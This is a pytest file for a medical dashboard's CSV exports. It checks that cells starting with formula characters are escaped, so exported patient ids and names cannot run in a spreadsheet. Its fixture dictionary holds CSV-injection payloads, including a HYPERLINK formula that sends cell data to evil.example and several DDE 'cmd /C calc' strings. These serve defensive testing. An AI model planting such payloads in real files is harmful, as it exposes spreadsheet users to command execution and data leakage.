"""Exports that cannot attack the reader's spreadsheet: every CSV the dashboard offers, built
from hostile patient ids and names, masked and revealed, has no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from medblocks.dashboard.sandbox_levers import SandboxLevers
from medblocks.dashboard.tables import FORMULA_STARTS, csv_text, spreadsheet_safe
from medblocks.dashboard.target import Target
from tests.dashboard.apptest import open_app_page

pytestmark = pytest.mark.usefixtures("app_environment")

HOSTILE = {  # patient id -> name
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "=cmd|' /C calc'!A0",
    "+export_plus": "+1+cmd|' /C calc'!A0",
    "-export_minus": "-2+3",
    "@export_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\texport_tab": "\t=1+1",
    "\rexport_cr": "\r=1+1",
}
EXPORTS = {  # page -> the CSV files it offers
    "ui_pages/connection_health.py": {"connection-health.csv"},
    "ui_pages/sessions.py": {"sessions.csv"},
}


def test_a_cell_a_spreadsheet_would_run_is_text_and_nothing_else_changes() -> None:
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    for harmless in ("", "Maria Lopez", "'=quoted already", " =1", "1-2", "user_42", "M**** L****"):
        assert spreadsheet_safe(harmless) == harmless
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(True) is True
    frame = pd.DataFrame(
        {"patient_id": ["=1+1", "user_42"], "name": ["=***", None], "count": [1, 2]}
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows == [["Patient id", "Name", "count"], ["'=1+1", "'=***", "1"], ["user_42", "", "2"]]


@pytest.fixture
def offered(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, bytes]]:
    """Every file the dashboard under AppTest offers for download, by file name (recorded where
    Streamlit stores it, then stored as usual)."""
    files: dict[str, bytes] = {}
    store = MemoryMediaFileStorage.load_and_get_id

    def recording(
        self: MemoryMediaFileStorage,
        path_or_data: str | bytes,
        mimetype: str,
        kind: object,
        filename: str | None = None,
    ) -> str:
        if filename is not None and isinstance(path_or_data, bytes):
            files[filename] = path_or_data
        return store(self, path_or_data, mimetype, kind, filename)  # type: ignore[arg-type]

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    yield files


@pytest.fixture(scope="module")
def hostile_patients(sandbox_target: Target) -> None:
    """Patients with hostile ids and names, each with a failed connection and an open session."""
    with sandbox_target.client() as api:
        source = next(iter(api.sources.list())).id
        for patient_id, name in HOSTILE.items():
            api.patients.create(patient_id=patient_id, name=name, email=f"{name}@evil.example")
            failed = api.patient_sessions.create(
                patient_id=patient_id,
                return_url="http://127.0.0.1:8501/connected",
                recommended_connection_ids=[source],
            )
            SandboxLevers(sandbox_target).force_outcome(
                failed.id, "failed", failure_code="user_denied", connection_id=source
            )
            api.patient_sessions.create(
                patient_id=patient_id, return_url="http://127.0.0.1:8501/connected"
            )


def cells(text: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.decode())) for cell in row]


@pytest.mark.usefixtures("hostile_patients")
@pytest.mark.parametrize("reveal", [False, True], ids=["masked", "revealed"])
def test_every_csv_offered_has_no_cell_a_spreadsheet_would_run(
    offered: dict[str, bytes], reveal: bool
) -> None:
    for page, names in EXPORTS.items():
        offered.clear()
        at = open_app_page(page)
        at.session_state["reveal_phi"] = reveal
        at.button(key="mirror_sync_now").click().run()
        assert not at.exception, [e.value for e in at.exception]
        assert set(offered) == names, page
        for name, text in offered.items():
            every = cells(text)
            assert not [c for c in every if c.startswith(FORMULA_STARTS)], name
            if name == "connection-health.csv":
                shown = set(every)
                for patient_id, patient_name in HOSTILE.items():
                    assert "'" + patient_id in shown  # the id, kept whole, as text
                    assert ("'" + patient_name in shown) is reveal
